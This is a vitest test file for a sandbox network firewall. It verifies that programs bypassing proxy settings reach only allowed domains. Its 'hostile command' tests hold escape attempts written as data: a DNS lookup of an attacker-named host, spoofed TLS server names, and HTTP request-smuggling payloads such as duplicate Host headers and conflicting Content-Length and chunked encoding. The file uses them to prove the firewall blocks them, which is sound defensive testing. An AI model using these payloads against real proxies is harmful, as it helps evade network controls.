/** Programs that ignore the proxy variables, and what a hostile command makes of that. */

import { execFileSync } from 'node:child_process';
import { copyFileSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { stripTypeScriptTypes } from 'node:module';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { DomainTraffic } from '../../src/report/traffic.ts';
import { FORWARD_PORT } from '../../src/shared/network.ts';
import { startSandbox, type SandboxRun } from '../../testing/engine/sandbox-run.ts';
import { sectionedScript, sectionsOf } from '../../testing/engine/sections.ts';
import { startOutside, type Outside } from '../../testing/outside/outside.ts';
import type { OutsideEvent } from '../../testing/outside/server.ts';
import { untilSaid } from '../../testing/runner/run-entry.ts';
import { createTestCa } from '../../testing/tls.ts';
import { clientHello, records, serverNames } from '../../testing/client-hello.ts';

const RESOLVER = '198.51.100.53';
const PUBLIC = '198.51.100.7';
const EVIL = '198.51.100.9';
const PRIVATE = '10.77.0.9';
const NAMES = {
  'allowed.example': [[PUBLIC]],
  '.allowed.example': [[PUBLIC]],
  'private.example': [[PRIVATE]],
  'ported.example': [[PUBLIC]],
  'refused.example': [[EVIL]],
};
const FIXTURES = join(import.meta.dirname, 'fixtures', 'without-proxy');

const ALLOWED = 'https://allowed.example/';
const REFUSED = 'https://refused.example/';
const hex = (octets: Buffer | string): string => Buffer.from(octets as string).toString('hex');
/** Sends octets to the address that an allowed name leads to. */
const raw = (port: number, octets: Buffer | string): string =>
  `node raw.mjs "$AWF_API_PROXY_IP" ${String(port)} ${hex(octets)}`;
const NODE_FETCH = `for (const url of process.argv.slice(1)) {
    await fetch(url).then(({ status }) => console.log(status), ({ cause }) => console.log(cause.code)); }`;
const LOOKUP = `import { Resolver } from 'node:dns/promises';
  const begun = Date.now();
  const code = await new Resolver().resolve4('data.attacker.example').then(() => 'resolved', (error) => error.code);
  console.log(code, Date.now() - begun < 1000 ? 'at once' : 'late');`;

/** HTTP/1.1 in a row over one connection. */
const PIPELINED = ['allowed.example', 'refused.example', 'other.allowed.example']
  .map(
    (host, at) => `GET /x20-${String(at)} HTTP/1.1\r\nHost: ${host}\r\n${at === 2 ? 'Connection: close\r\n' : ''}\r\n`,
  )
  .join('');

const SCRIPT = `
squid=\${https_proxy%:*}
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY all_proxy NODE_USE_ENV_PROXY JAVA_TOOL_OPTIONS
export NO_PROXY='*' no_proxy='*' NODE_EXTRA_CA_CERTS=$PWD/ca.pem SSL_CERT_FILE=$PWD/ca.pem
export PATH=/usr/bin:$PATH
echo waiting
until [ -e go ]; do sleep 0.05; done
${sectionedScript({
  node: `node --input-type=module -e "${NODE_FETCH}" ${ALLOWED} http://allowed.example/ ${REFUSED}`,
  go: `./fetch-go ${ALLOWED} http://allowed.example/ ${REFUSED}`,
  java: `java Fetch.java ca.pem ${ALLOWED} http://allowed.example/ ${REFUSED}`,
  curl: `for u in ${ALLOWED} http://allowed.example/ https://any.allowed.example/x ${REFUSED}; do
    curl -sS --cacert ca.pem -o /dev/null -w '%{http_code}\\n' --noproxy '*' $u; done`,
  'curl, upload': `head -c 3000000 /dev/zero > body; for u in ${ALLOWED} http://allowed.example/; do
    curl -sS --cacert ca.pem -o /dev/null -w '%{http_code} %{size_upload}\\n' --noproxy '*' -T body $u; done`,
  ssh: `ssh -o BatchMode=yes git@allowed.example; echo "exit $?"`,
  'another port': `for u in https://allowed.example:9443/ https://allowed.example:8443/ https://ported.example/; do
    curl -sS -m 20 --noproxy '*' $u; echo "exit $?"; done`,
  'its own port': `curl -sS -m 20 --noproxy '*' https://ported.example:8443/; echo "exit $?"`,
  getent: `getent hosts allowed.example | tr -s ' '; getent hosts refused.example; echo "exit $?"; getent hosts localhost > /dev/null && echo localhost`,
  musl: `"/tmp/awf-lib/busybox" nslookup allowed.example | grep -c "$AWF_API_PROXY_IP"`,
  X1: `node --input-type=module -e "${LOOKUP}"; getent hosts data.attacker.example; echo "exit $?"`,
  'X12 TLS': 'curl -sS -m 20 --noproxy "*" https://private.example/; echo "exit $?"',
  'X12 HTTP': `curl -sS -m 20 --noproxy '*' -o /dev/null -w '%{http_code}' http://private.example/`,
  'X13 control': raw(443, records(clientHello(serverNames('allowed.example')))),
  X13: raw(443, records(clientHello(serverNames('refused.example')))),
  'X13 two records': raw(443, records(clientHello(serverNames('refused.example')), 120)),
  'X14 SSH': raw(443, 'SSH-2.0-OpenSSH_9.2\r\n'),
  'X14 HTTP': raw(443, 'GET / HTTP/1.1\r\nHost: allowed.example\r\n\r\n'),
  X17: `curl -sS -m 5 http://refused.example/; echo "exit $?"; curl -sS -m 5 https://${EVIL}/ 2> /dev/null; echo "exit $?"`,
  X19: raw(443, records(clientHello())),
  X20: `${raw(80, PIPELINED)} | grep -a -o 'HTTP/1.1 [0-9]*'`,
  'X20 absolute': `${raw(80, 'GET http://refused.example/ HTTP/1.1\r\nHost: allowed.example\r\nConnection: close\r\n\r\n')} | head -1`,
  'X20 two hosts': `${raw(80, 'GET / HTTP/1.1\r\nHost: allowed.example\r\nHost: refused.example\r\n\r\n')} | head -1`,
  'X20 two lengths': `${raw(80, 'POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n')} | head -1`,
  'the port of the api-proxy': `for u in http://allowed.example/ https://allowed.example/; do
    curl -sS -m 5 --noproxy '' -x "$squid:${String(FORWARD_PORT)}" -o /dev/null -w '%{http_code} %{http_connect}\\n' $u 2> /dev/null; done`,
})}
`;

let run: SandboxRun;
let outside: Outside;
let sections: Record<string, string>;
let events: readonly OutsideEvent[];
let domains: DomainTraffic | undefined;

beforeAll(async () => {
  const ca = await createTestCa();
  const built = mkdtempSync(join(tmpdir(), 'awf-go-'));
  copyFileSync(join(FIXTURES, 'fetch.go'), join(built, 'main.go'));
  const options = { cwd: built, env: { ...process.env, CGO_ENABLED: '0', GO111MODULE: 'off' } };
  execFileSync('go', ['build', '-o', 'fetch-go', 'main.go'], options);
  const text = (name: string): string => readFileSync(join(FIXTURES, name), 'utf8');
  run = startSandbox({
    options: {
      'allow-domains': 'allowed.example, private.example, https://ported.example:8443',
      'upstream-ca': 'ca.pem',
      'check-keys': 'false', // it looks up the provider's name
    },
    credentials: { OPENAI_API_KEY: 'sk-proj-transparent-sentinel' },
    script: `chmod 755 fetch-go 2> /dev/null; ${SCRIPT}`,
    resolver: RESOLVER,
    files: {
      'ca.pem': ca.certPem,
      'Fetch.java': text('Fetch.java'),
      'raw.mjs': stripTypeScriptTypes(text('../raw-client.ts')),
      'fetch-go': readFileSync(join(built, 'fetch-go')),
    },
  });
  rmSync(built, { recursive: true });
  const ended = run.done.then(({ error, traffic }) => {
    if (error !== undefined) throw error as Error;
    domains = traffic.domains;
  });
  await untilSaid(run, 'waiting');
  const certificate = await ca.issue(['allowed.example', '*.allowed.example', 'refused.example', 'private.example']);
  const world = { ...certificate, resolver: RESOLVER, names: NAMES, pointer: 'allowed.example' };
  outside = await startOutside(run.containers().squid, run.images, world, [PUBLIC, EVIL, PRIVATE]);
  run.writeFile('go', '');
  await ended;
  await outside.stop();
  events = outside.events;
  sections = sectionsOf(run.stdout());
});
afterAll(() => {
  run.removeFiles();
});

const linesOf = (name: string): string[] => (sections[name] ?? `no output of ${name}: ${run.stdout()}`).split('\n');

describe('a program that asks no proxy reaches what is allowed, and nothing else', () => {
  test('fetch of Node.js', () => {
    expect(linesOf('node')).toEqual(['200', '200', 'ENOTFOUND']);
  });

  test('a static program of Go', () => {
    expect(linesOf('go')).toEqual(['200', '200', expect.stringContaining('no such host')]);
  });

  test('Java’s HTTP client without properties', () => {
    expect(linesOf('java')).toEqual(['200', '200', expect.stringMatching(/UnresolvedAddress|UnknownHost/)]);
  });

  test('curl', () => {
    expect(linesOf('curl')).toEqual([
      ...['200', '200', '200', 'curl: (6) Could not resolve host: refused.example', '000'],
    ]);
    expect(linesOf('curl, upload')).toEqual(['200 3000000', '200 3000000']);
  });

  test('ssh ends at once, and says why', () => {
    expect(sections['ssh']).toMatch(/^Received disconnect .*AWF carries HTTPS and HTTP only.*https:\/\//m);
    expect(linesOf('ssh').at(-1)).toBe('exit 255');
  });

  test('another port is closed', () => {
    // Nobody listens; and Squid refuses the tunnel to a name that is allowed at another port.
    const exits = linesOf('another port').filter((line) => line.startsWith('exit'));
    expect(exits).toEqual(['exit 7', 'exit 35', 'exit 35']);
  });

  test('the port of an entry leads to that port', () => {
    const own = domains?.allowed.find(({ domain }) => domain === 'ported.example');
    expect(own).toMatchObject({ port: 8443, rule: { entry: 'https://ported.example:8443' } });
  });

  test('every kind of resolver works', () => {
    expect(linesOf('getent')).toEqual([
      expect.stringMatching(/^172\..*30 allowed.example$|allowed.example$/),
      'exit 2',
      'localhost',
    ]);
    expect(Number(sections['musl'])).toBeGreaterThan(0);
  });

  test('the report has what it reached', () => {
    const names = (list: DomainTraffic['allowed'] = []): string[] => list.map(({ domain }) => domain);
    expect(names(domains?.allowed)).toEqual(expect.arrayContaining(['allowed.example', 'any.allowed.example']));
    expect(names(domains?.blocked)).toEqual(expect.arrayContaining(['refused.example', 'private.example']));
    // Nothing but the lookup came to the firewall.
    expect(names(domains?.blocked)).toContain('data.attacker.example');
  });
});

describe('a hostile command', () => {
  test('X1 a lookup ends at once and reaches no server', () => {
    expect(linesOf('X1')).toEqual(['ENOTFOUND at once', 'exit 2']);
    const queries = events.flatMap((event) => (event.kind === 'query' ? event.name : []));
    expect(queries).toContain('allowed.example');
    expect(queries.filter((name) => !/^(.*\.)?(allowed|private|ported)\.example$/.test(name))).toEqual([]);
  });

  test('X12 reaches no private address', () => {
    expect(linesOf('X12 TLS').at(-1)).toBe('exit 35');
    expect(sections['X12 HTTP']).toBe('403');
  });

  test('X13 gets no tunnel for another server name', () => {
    expect(sections['X13 control']).toBe('handshake');
    expect([sections['X13'], sections['X13 two records']]).toEqual(['alert 112', 'alert 112']);
  });

  test('X14 gets nothing through that is not TLS', () => {
    expect([sections['X14 SSH'], sections['X14 HTTP']]).toEqual(['closed', 'closed']);
  });

  test('X17 gets nowhere else without the proxy variables', () => {
    expect(linesOf('X17').filter((line) => line.startsWith('exit'))).toEqual(['exit 6', 'exit 7']);
  });

  test('X19 gets no tunnel without a server name', () => {
    expect(sections['X19']).toBe('alert 112');
  });

  test('X20 has each request judged on its own, by the host that goes upstream', () => {
    expect(linesOf('X20')).toEqual(['HTTP/1.1 200', 'HTTP/1.1 403', 'HTTP/1.1 200']);
    expect(sections['X20 absolute']).toMatch(/^HTTP\/1.1 400 /);
    expect(sections['X20 two hosts']).toMatch(/^HTTP\/1.1 400 /);
    expect(sections['X20 two lengths']).toMatch(/^HTTP\/1.1 400 /);
    const asked = events.flatMap((event) => (event.kind === 'request' && event.url.startsWith('/x20') ? event : []));
    // Each went to its own server, in no order.
    expect(asked.map(({ url, headers }) => [url, headers.host]).toSorted()).toEqual([
      ['/x20-0', 'allowed.example'],
      ['/x20-2', 'other.allowed.example'],
    ]);
  });

  test('cannot use the port of Squid’s that is the api-proxy’s', () => {
    expect(linesOf('the port of the api-proxy')).toEqual(['403 000', '000 403']);
  });

  test('reached only the addresses of allowed names', () => {
    const reached = new Set(events.flatMap((event) => (event.kind === 'connection' ? event.address : [])));
    expect([...reached]).toEqual([PUBLIC]);
  });
});
